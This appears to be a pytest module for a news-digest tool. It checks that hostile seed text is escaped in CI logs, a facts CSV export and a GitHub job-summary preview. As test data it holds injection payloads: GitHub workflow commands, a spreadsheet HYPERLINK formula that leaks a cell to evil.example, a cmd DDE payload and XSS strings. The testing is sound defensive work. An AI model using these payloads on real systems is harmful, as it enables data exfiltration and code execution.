"""Seed text in the digest's other outputs: every line printed into a CI log (where GitHub's
runner obeys ``::command::`` at a line's start and ``##[command]`` anywhere), the facts CSV
opened in a spreadsheet, and the pull-request preview GitHub renders in the job summary."""

from __future__ import annotations

import contextlib
import io
import json
import os
import re
from pathlib import Path

import cmarkgfm
import markdown
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from digest.build import collect, digest_stage
from digest.cli import _print_problems, main
from digest.config import load_config
from digest.escape import log_line, markdown_text, spreadsheet_cell, visible
from digest.model import Problem, Severity
from digest.pages.export import CSV_COLUMNS, fact_records
from digest.read.sources import gather_sources

from .conftest import BUILD_TIME, make_project
from .support import facts_export

PROSE = ("Der Konzern investiert in diesem Jahr deutlich mehr Geld in neue Rechenzentren, "
         "sagte die Sprecherin am Montag in Wien. Der Umsatz sank um -5 Prozent auf "
         "3 Millionen Euro.")
HTML = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"
JS_LINK = "[x](javascript:alert(1))"
IMAGE = "![](http://tracker.example/t.png)"
TICKS = "`a``b` ``"


def run(project: Path, *args: str) -> tuple[int, str, str]:
    """``digest ARGS`` in the project folder: exit code, stdout, stderr."""
    out, err = io.StringIO(), io.StringIO()
    cwd = Path.cwd()
    os.chdir(project)
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = main(["-f", str(project / "mkdocs.yml"), *args])
    finally:
        os.chdir(cwd)
    return code, out.getvalue(), err.getvalue()


def front_matter(title: str, *, tags: list[str], orgs: list[str], persons: list[str],
                 key: str) -> str:
    """A Markdown seed that passes the check, hostile in every field it has."""
    return "\n".join([
        "---",
        f"title: {json.dumps(title)}",
        "date: 2026-03-04",
        f"tags: {json.dumps(tags)}",
        f"{json.dumps(key)}: 1",
        "facts:",
        f"  add: {{orgs: {json.dumps(orgs)}, persons: {json.dumps(persons)}}}",
        "---",
        "",
        PROSE,
        "",
    ])


# ---------------------------------------------------------------------------- the CI log


ANNOTATION = re.compile(r"::(error|warning) file=[^:,\s]*(,line=\d+)?(,title=[a-z0-9-]+)?::")


def assert_no_command(output: str, *, annotations: bool = False) -> None:
    """No line, as GitHub's runner or a log viewer splits them, is a workflow command, except
    the digest's own annotations when asked for (the runner parses a line that starts with
    ``::`` as one command, so a ``##[`` in its message stays text)."""
    for line in output.splitlines():
        if line.lstrip().startswith("::"):
            assert annotations and ANNOTATION.match(line), line
        else:
            assert "##[" not in line, line


def test_no_seed_text_becomes_a_workflow_command(tmp_path: Path) -> None:
    """File names with line breaks, titles, tags, facts and keys that start a command are
    printed escaped by every command and format; only --format github annotates."""
    command = "::error::pwned"
    seeds: dict[str, str | bytes] = {
        "evil.md": front_matter(
            f"{command} ##[error]legacy", tags=[command, "##[warning]tag"],
            orgs=[f"{command} org"], persons=[f"a\n{command}", "b\u2028::warning::x"],
            key=f"k\n{command}"),
        f"x\n{command}.txt": f"Title\n{PROSE}\n",
        f"y\u2028{command}.txt": f"Title\n{PROSE}\n",
        f"z\x85{command}.txt": f"Title\n{PROSE}\n",
        f"w\r{command}.txt": f"Title\n{PROSE}\n",
        "##[error]v1.txt": f"Title\n{PROSE}\n",
    }
    project = make_project(tmp_path, seeds)
    outside = project / f"{command}.txt"
    outside.write_text(f"{command} title\n{PROSE}\n")
    paths = [f"seeds/{name}" for name in seeds]

    for args in (["check"], ["check", *paths, outside.name], ["build", "--no-site"],
                 ["facts", *paths, outside.name], ["preview", *paths],
                 ["new", f"{command} new"]):
        _, out, err = run(project, *args)
        assert_no_command(out)
        assert_no_command(err)
    _, out, err = run(project, "check", "--format", "github", *paths, outside.name)
    assert_no_command(out, annotations=True)
    assert_no_command(err)
    assert any(line.startswith("::error file=seeds/x%0A%3A%3Aerror%3A%3Apwned.txt,title=")
               for line in out.splitlines())

    _, out, err = run(project, "facts", "--format", "json", "seeds/evil.md")
    assert_no_command(out)
    assert_no_command(err)
    [item] = json.loads(out)
    assert item["title"] == f"{command} ##[error]legacy"
    assert {f"a\n{command}", "b\u2028::warning::x"} <= set(item["facts"]["persons"])
    assert {command, "##[warning]tag"} <= set(item["tags"])


def test_annotations_escape_properties_and_message(capsys: pytest.CaptureFixture[str]) -> None:
    """An annotation's file property and message are escaped as GitHub's runner unescapes
    them: %25, %0D, %0A in both, %3A and %2C in the property."""
    _print_problems([Problem("seeds/a,b:c%\r\n.md", 3, "50%\r\n::error::x", Severity.WARNING)],
                    "github")
    assert capsys.readouterr().out == (
        "::warning file=seeds/a%2Cb%3Ac%25%0D%0A.md,line=3::50%25%0D%0A::error::x\n")


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_log_line_is_one_line_and_no_command(text: str) -> None:
    """Whatever the text, the printed line is one line by any reader's count, and neither
    ``::`` at its start nor ``##[`` anywhere is left for the runner to obey."""
    line = log_line(text)
    assert len(line.splitlines()) <= 1
    assert not line.lstrip().startswith("::")
    assert "##[" not in line


# ---------------------------------------------------------------------------- facts CSV


FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "+SUM(1,2)",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "  =1+1", "＝1+1"]
# OWASP's triggers; a cell may start with them only as a number the digest computed.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝")
NUMBER_COLUMNS = {"value", "value_to", "eur", "year", "month", "day"}


def test_facts_csv_cells_cannot_run_as_formulas(tmp_path: Path) -> None:
    """Fact text and names that start like a formula are prefixed with a quote in the CSV
    export (a negative computed value stays a number); the JSON keeps them as they are."""
    project = make_project(tmp_path, {"evil.md": front_matter(
        FORMULAS[0], tags=[], orgs=FORMULAS[1:4], persons=FORMULAS[4:], key="summary2")})
    config = load_config(project / "mkdocs.yml")
    digest_stage(config, build_time=BUILD_TIME)
    feeds = project / "content" / "feeds"
    records, rows = facts_export(feeds)

    entries = collect(config, gather_sources(config), build_time=BUILD_TIME).entries
    assert records == fact_records(entries, config)
    assert records[0]["article_title"] == FORMULAS[0]
    names = {r["name"] for r in records}
    assert {"+SUM(1,2)", "@SUM(1)", "-2+3+cmd|' /C calc'!A0"} <= names
    assert any(r["value"] == "-5" for r in records)

    assert len(rows) == len(records)
    neutralised = 0
    for row, record in zip(rows, records, strict=True):
        assert list(row) == list(CSV_COLUMNS)
        for column, cell in row.items():
            raw = record[column]
            if cell != raw:
                assert cell == "'" + raw, (column, cell)
                neutralised += 1
            if column in NUMBER_COLUMNS and re.fullmatch(r"-?\d+(\.\d+)?", cell):
                continue
            assert not cell.startswith(TRIGGERS), (column, cell)
            assert not cell.lstrip().startswith(TRIGGERS), (column, cell)
    assert any(r["value"] == "-5" for r in rows)
    assert neutralised >= len(names & set(FORMULAS))


@pytest.mark.parametrize(("text", "number", "cell"), [
    ("=1+1", False, "'=1+1"),
    ("-5", True, "-5"),
    ("-1.5E+7", True, "-1.5E+7"),
    ("-5", False, "'-5"),
    ("-5 Prozent", True, "'-5 Prozent"),
    ("-Infinity", True, "'-Infinity"),
    ("\r=1", False, "'\r=1"),
    ("ByteDance", False, "ByteDance"),
    ("", False, ""),
])
def test_spreadsheet_cell(text: str, number: bool, cell: str) -> None:
    """OWASP's rule, with plain numbers kept where the digest writes numbers."""
    assert spreadsheet_cell(text, number=number) == cell


# ---------------------------------------------------------------------------- job summary


PREVIEW_TAGS = {"h2", "h3", "p", "ul", "li", "strong", "code"}


def rendered(markdown_source: str) -> list[lxml_html.HtmlElement]:
    """The summary as GitHub's renderer (cmark-gfm, raw HTML let through so that any seed
    HTML would show) and Python-Markdown turn it into HTML."""
    gfm = cmarkgfm.github_flavored_markdown_to_html(markdown_source,
                                                     options=Options.CMARK_OPT_UNSAFE)
    return [lxml_html.fragment_fromstring(page, create_parent="div")
            for page in (gfm, markdown.markdown(markdown_source))]


def test_preview_escapes_every_seed_field(tmp_path: Path) -> None:
    """Hostile text in a seed's file name, title, tags, facts, front-matter keys and problem
    messages renders as text in the summary: no element or attribute of its own."""
    evil = f"{HTML} {JS_LINK} {IMAGE} {TICKS} {SCRIPT} @octocat #1"
    seeds: dict[str, str | bytes] = {
        "evil.md": front_matter(
            evil, tags=[JS_LINK, IMAGE, "`x`", "**bold**"], orgs=[HTML, JS_LINK],
            persons=[IMAGE, SCRIPT], key=f"{HTML} {IMAGE}"),
        f"{HTML}.txt": f"Title\n{PROSE}\n",
        f"a`{JS_LINK}`\n<svg onload=alert(2)>.txt": f"Title\n{PROSE}\n",
        "date.md": f"---\ntitle: T\ndate: '{HTML}'\n---\n\n{PROSE}\n",
    }
    project = make_project(tmp_path, seeds)
    code, out, _ = run(project, "preview", *(f"seeds/{name}" for name in seeds))
    assert code == 0
    for doc in rendered(out):
        tags = {el.tag for el in doc.iter()} - {"div"}
        assert tags <= PREVIEW_TAGS, out
        assert not [el.attrib for el in doc.iter() if el.attrib and el.tag != "div"], out
    text = rendered(out)[0].text_content().replace("\u2060", "")
    for shown in (evil, JS_LINK, IMAGE, "**bold**", HTML, SCRIPT, f"unknown key '{HTML} {IMAGE}'",
                  f"seeds/{HTML}.txt", visible(f"seeds/a`{JS_LINK}`\n<svg onload=alert(2)>.txt"),
                  f"ISO date-time, got '{HTML}'"):
        assert shown in text, shown


@settings(max_examples=400, deadline=None)
@given(st.text())
def test_markdown_text_renders_as_itself(text: str) -> None:
    """Any text, escaped, renders in GitHub's Markdown as exactly itself (its control
    characters shown as escapes) and nothing else."""
    doc = rendered(f"x{markdown_text(text)}x")[0]
    assert [el.tag for el in doc.iter()] == ["div", "p"]
    # the escape adds invisible word joiners (U+2060), so they are compared without
    joiners = str.maketrans("", "", "\u2060")
    assert doc.text_content().translate(joiners).strip() == f"x{visible(text)}x".translate(joiners)
